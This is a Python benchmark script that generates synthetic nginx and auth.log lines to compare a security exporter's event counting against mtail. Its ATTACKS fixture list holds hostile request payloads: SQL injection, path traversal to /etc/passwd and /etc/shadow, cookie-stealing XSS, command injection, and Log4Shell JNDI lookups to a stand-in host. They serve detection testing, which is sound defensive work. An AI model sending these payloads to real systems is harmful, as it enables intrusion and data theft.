"""Benchmark: the security exporter's log parsing against Debian's mtail, on the same generated logs.

It writes a realistic mix (default 300,000 lines: four fifths nginx access log of a portal
host, one fifth auth.log of sshd brute force, sudo, su and account tools, both with a
few percent of attacks) into a temporary directory, then:

- **exporter**: :class:`SecurityCollector` with those two files as its only sources
  (``auth_log`` and ``nginx_access_log``), created while the files are empty, timed
  over the one scrape that reads them whole (lines per second of CPU and wall time);
- **mtail**: Debian's ``mtail`` (``apt-get install mtail``) with the equivalent rules of
  bench/mtail/, run as ``mtail -one_shot`` on a loopback port with ``GOMAXPROCS=1``
  (the exporter is one thread); its start-up (compiling the programs, same command on
  empty logs) is measured apart and taken off.

Both must count the same events (every ``portalops_security_*`` series the two share),
or the benchmark exits non-zero with the differences. It prints a table, and with
``--json FILE`` writes the figures. Run: ``.venv/bin/python bench/security_events.py
[--lines N] [--json results.json]``. One core at a time: the runs follow each other.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path[0] = str(ROOT)  # run as a script, bench/ would hide the project's packages

from portalops_exporters.security import SecurityCollector  # noqa: E402

PROGRAMS = ROOT / "bench" / "mtail"
HOSTS = ["cong-h56", "xa-quang-phu"]
ADMINS = ["nguyenvana", "tranthib", "lequangc"]
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
            "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Mobile",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Version/18.1 Mobile/15E148"]
PORTAL_REQUESTS = [("GET / HTTP/2.0", 200), ("GET /thu-tuc?q=c%E1%BA%A5p+gi%E1%BA%A5y+ph%C3%A9p&page=2 HTTP/2.0", 200),
                   ("GET /api/dossiers/000.00.14.H56-260302-0118 HTTP/2.0", 200), ("POST /api/dossiers HTTP/2.0", 201),
                   ("GET /static/app.css HTTP/2.0", 304), ("POST /auth/login HTTP/2.0", 302),
                   ("GET /dossiers/000.17.22.H56-260302-0042 HTTP/2.0", 200), ("GET /favicon.ico HTTP/2.0", 404),
                   ("POST /auth/login HTTP/2.0", 429), ("POST /api/payments/confirm HTTP/1.1", 200),
                   ("GET /api/dossiers?status=4&page=3 HTTP/2.0", 502)]
ATTACKS = [  # (request, status, user agent or None for a browser's)
    ("GET /tra-cuu?ma=1%27%20OR%20%271%27=%271 HTTP/1.1", 403, None),
    ("GET /thu-tuc?id=5+UNION+ALL+SELECT+NULL,version()-- HTTP/1.1", 403, None),
    ("GET /tra-cuu?ma=1%27;SELECT+pg_sleep(5)-- HTTP/1.1", 403, None),
    ("GET /static/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1", 403, None),
    ("GET /download?file=../../../../etc/shadow HTTP/1.1", 403, None),
    ("GET /tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1", 403, None),
    ("GET /api/ping?host=198.18.0.1;cat+/etc/passwd HTTP/1.1", 403, None),
    ("GET /?x=${jndi:ldap://198.18.9.9/a} HTTP/1.1", 403, None),
    ("GET / HTTP/1.1", 200, "${jndi:ldap://198.18.9.9/Basic/Command/Base64/dG91Y2g=}"),
    ("GET /.env HTTP/1.1", 404, None), ("GET /wp-login.php HTTP/1.1", 404, None),
    ("GET /.git/config HTTP/1.1", 404, None), ("GET /phpmyadmin/ HTTP/1.1", 404, None),
    ("GET /?id=1 HTTP/1.1", 403, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("GET /cgi-bin/test.cgi HTTP/1.1", 404, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004211)"),
    ("GET / HTTP/1.1", 400, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
]


def syslog(when: int, host: str, program: str, pid: int, message: str) -> str:
    stamp = time.strftime("%b %d %H:%M:%S", time.gmtime(1_772_400_000 + when)).replace(" 0", "  ", 1)
    return f"{stamp} {host} {program}[{pid}]: {message}"


def auth_line(rng: random.Random, n: int) -> str:
    """One auth.log line: mostly an SSH brute force and its noise, some admin work."""
    host, pid, ip = rng.choice(HOSTS), rng.randint(1000, 60000), f"198.18.{rng.randint(1, 250)}.{rng.randint(1, 250)}"
    admin, port = rng.choice(ADMINS), rng.randint(30000, 65000)
    roll = rng.random()
    if roll < 0.30:
        message = f"Failed password for invalid user {rng.choice(['admin', 'oracle', 'test user', 'ubnt'])} " \
                  f"from {ip} port {port} ssh2"
    elif roll < 0.38:
        message = f"Failed password for root from {ip} port {port} ssh2"
    elif roll < 0.50:
        message = f"Invalid user {rng.choice(['admin', 'oracle', 'git'])} from {ip} port {port}"
    elif roll < 0.55:
        message = f"Accepted publickey for {admin} from {ip} port {port} ssh2: ED25519 SHA256:Xb0kq7c9Jm2wTQ"
    elif roll < 0.56:
        message = f"Accepted keyboard-interactive/pam for {admin} from {ip} port {port} ssh2"
    elif roll < 0.57:
        message = f"User {admin} from {ip} not allowed because none of user's groups are listed in AllowGroups"
    elif roll < 0.78:
        message = rng.choice([f"Connection closed by invalid user admin {ip} port {port} [preauth]",
                              f"Disconnected from authenticating user root {ip} port {port} [preauth]",
                              f"pam_unix(sshd:session): session opened for user {admin}(uid=1000) by (uid=0)",
                              f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"])
    else:
        program, message = rng.choice([
            ("sudo", f"   {admin} : TTY=pts/0 ; PWD=/home/{admin} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"),
            ("sudo", f"   {admin} : TTY=pts/0 ; PWD=/home/{admin} ; USER=root ; COMMAND=/usr/bin/journalctl -u ssh"),
            ("sudo", f"   {admin} : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/{admin} ; USER=root ; "
                     f"COMMAND=/usr/bin/id"),
            ("sudo", f"   www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh"),
            ("sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {admin}(uid=1000)"),
            ("su", f"(to postgres) {admin} on pts/0"), ("su", f"FAILED SU (to root) {admin} on pts/2"),
            ("useradd", f"new user: name=u{n}, UID={2000 + n % 5000}, GID=100, home=/home/u{n}, shell=/bin/bash, "
                        f"from=/dev/pts/0"),
            ("usermod", f"add 'u{n}' to group 'ssh-users'"), ("usermod", f"add 'u{n}' to shadow group 'ssh-users'"),
            ("passwd", f"pam_unix(passwd:chauthtok): password changed for u{n}"),
            ("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
            ("CRON", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"),
            ("systemd-logind", f"New session {n} of user {admin}."),
        ])
        return syslog(n // 10, host, program, pid, message)
    return syslog(n // 10, host, "sshd", pid, message)


def access_line(rng: random.Random, n: int) -> str:
    """One access-log line of the portal: citizens' requests, and about 3 % attacks."""
    ip = f"198.18.{rng.randint(1, 250)}.{rng.randint(1, 250)}"
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0700", time.gmtime(1_772_400_000 + n // 50))
    if rng.random() < 0.03:
        request, status, agent = rng.choice(ATTACKS)
        agent = agent or rng.choice(BROWSERS)
    else:
        (request, status), agent = rng.choice(PORTAL_REQUESTS), rng.choice(BROWSERS)
    return f'{ip} - - [{stamp}] "{request}" {status} {rng.randint(0, 90000)} "https://dichvucong.thanhhoa.gov.vn/" "{agent}"'


def generate(directory: Path, lines: int, seed: int = 5) -> tuple[Path, Path]:
    """auth.log and access.log with ``lines`` lines in all (one fifth auth.log)."""
    rng = random.Random(seed)
    auth, access = directory / "auth.log", directory / "access.log"
    auth_count = lines // 5
    auth.write_text("".join(auth_line(rng, n) + "\n" for n in range(auth_count)))
    access.write_text("".join(access_line(rng, n) + "\n" for n in range(lines - auth_count)))
    return auth, access


def run_exporter(auth: Path, access: Path, state: Path) -> tuple[dict, float, float]:
    """(counts by series, CPU seconds, wall seconds) of one scrape that reads both files whole."""
    empty_auth, empty_access = state / "auth.log", state / "access.log"
    empty_auth.touch()
    empty_access.touch()
    collector = SecurityCollector(journal=False, auth_log=str(empty_auth), nginx_access_log=str(empty_access),
                               modsec_audit_log=None, nginx_error_log=None, fail2ban_log=None, integrity={},
                               expected_ports=None, updates_command=None, state_dir=None)
    collector.collect()  # positions at the (empty) files' end, as a running exporter has them
    shutil.copyfile(auth, empty_auth)
    shutil.copyfile(access, empty_access)
    cpu, wall = time.process_time(), time.perf_counter()
    families = list(collector.collect())
    cpu, wall = time.process_time() - cpu, time.perf_counter() - wall
    collector.close()
    counts = {}
    for family in families:
        for sample in family.samples:
            if sample.name.endswith("_total") and sample.value:
                counts[(sample.name, tuple(sorted(sample.labels.items())))] = sample.value
    return counts, cpu, wall


def free_loopback_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def run_mtail(logs: list[Path]) -> tuple[dict, float, float]:
    """(counts by series, CPU seconds, wall seconds) of ``mtail -one_shot`` over ``logs``."""
    command = ["mtail", "-one_shot", "-one_shot_format", "json", "-progs", str(PROGRAMS),
               "-logs", ",".join(map(str, logs)), "-address", "127.0.0.1", "-port", str(free_loopback_port()),
               "-emit_prog_label=false", "-logtostderr", "-stderrthreshold", "ERROR"]
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    wall = time.perf_counter()
    result = subprocess.run(command, capture_output=True, env={**os.environ, "GOMAXPROCS": "1"}, timeout=900)
    wall = time.perf_counter() - wall
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    if result.returncode != 0:
        raise SystemExit(f"mtail failed ({result.returncode}): {result.stderr.decode()[-2000:]}")
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    counts = {}
    for metrics in json.loads(result.stdout).values():
        for metric in metrics:
            for row in metric.get("LabelValues", []):
                labels = dict(zip(metric.get("Keys") or [], row.get("Labels") or []))
                if "status_class" in labels:  # mtail cannot append "xx" to a captured digit
                    labels["status_class"] += "xx"
                if row["Value"]["Value"]:
                    counts[(metric["Name"], tuple(sorted(labels.items())))] = float(row["Value"]["Value"])
    return counts, cpu, wall


def compare(ours: dict, theirs: dict) -> list[str]:
    """The series both count (every metric mtail has) on which they differ."""
    names = {name for name, _ in theirs}
    keys = {key for key in ours if key[0] in names} | set(theirs)
    return [f"{name}{dict(labels)}: exporter {ours.get((name, labels), 0):g}, mtail {theirs.get((name, labels), 0):g}"
            for name, labels in sorted(keys) if ours.get((name, labels), 0) != theirs.get((name, labels), 0)]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--lines", type=int, default=300_000, help="lines to generate in all (default 300000)")
    parser.add_argument("--json", type=Path, help="write the results to this file")
    args = parser.parse_args()
    if not shutil.which("mtail"):
        raise SystemExit("mtail is not installed: apt-get install -y mtail")
    with tempfile.TemporaryDirectory(prefix="security-bench-") as name:
        directory = Path(name)
        (directory / "state").mkdir()
        (directory / "empty").mkdir()
        auth, access = generate(directory, args.lines)
        size = auth.stat().st_size + access.stat().st_size
        ours, our_cpu, our_wall = run_exporter(auth, access, directory / "state")
        empty = [directory / "empty" / "auth.log", directory / "empty" / "access.log"]
        for path in empty:
            path.touch()
        _, start_cpu, start_wall = run_mtail(empty)
        theirs, mtail_cpu, mtail_wall = run_mtail([auth, access])
    mtail_net_cpu, mtail_net_wall = max(mtail_cpu - start_cpu, 1e-9), max(mtail_wall - start_wall, 1e-9)
    differences = compare(ours, theirs)
    events = sum(value for (name, _), value in ours.items() if name in {n for n, _ in theirs})
    results = {
        "lines": args.lines, "bytes": size, "events_compared": events, "same_counts": not differences,
        "exporter": {"cpu_seconds": our_cpu, "wall_seconds": our_wall, "lines_per_cpu_second": args.lines / our_cpu,
                     "lines_per_second": args.lines / our_wall},
        "mtail": {"cpu_seconds": mtail_net_cpu, "wall_seconds": mtail_net_wall,
                  "startup_cpu_seconds": start_cpu, "startup_wall_seconds": start_wall,
                  "lines_per_cpu_second": args.lines / mtail_net_cpu, "lines_per_second": args.lines / mtail_net_wall,
                  "version": subprocess.run(["mtail", "--version"], capture_output=True, text=True).stdout.split()[2]},
        "python": sys.version.split()[0],
    }
    results["ratio_cpu"] = results["exporter"]["lines_per_cpu_second"] / results["mtail"]["lines_per_cpu_second"]
    results["ratio_wall"] = results["exporter"]["lines_per_second"] / results["mtail"]["lines_per_second"]
    print(f"{args.lines:,} lines ({size / 1e6:.1f} MB: auth.log + nginx access.log), "
          f"{events:,.0f} events counted by both")
    print(f"{'':30} {'CPU s':>8} {'wall s':>8} {'lines/CPU s':>13} {'lines/s':>11}")
    for label, part in (("exporter (Python " + results["python"] + ")", results["exporter"]),
                        ("mtail " + results["mtail"]["version"] + ", 1 thread", results["mtail"])):
        print(f"{label:30} {part['cpu_seconds']:8.2f} {part['wall_seconds']:8.2f} "
              f"{part['lines_per_cpu_second']:13,.0f} {part['lines_per_second']:11,.0f}")
    print(f"exporter / mtail: {results['ratio_cpu']:.2f} (CPU), {results['ratio_wall']:.2f} (wall); mtail's start-up "
          f"({start_cpu:.2f} CPU s, {start_wall:.2f} s) taken off")
    if args.json:
        args.json.write_text(json.dumps(results, indent=2) + "\n")
    if differences:
        print("counts differ:\n  " + "\n  ".join(differences), file=sys.stderr)
        return 1
    print("same counts: yes")
    return 0


if __name__ == "__main__":
    sys.exit(main())
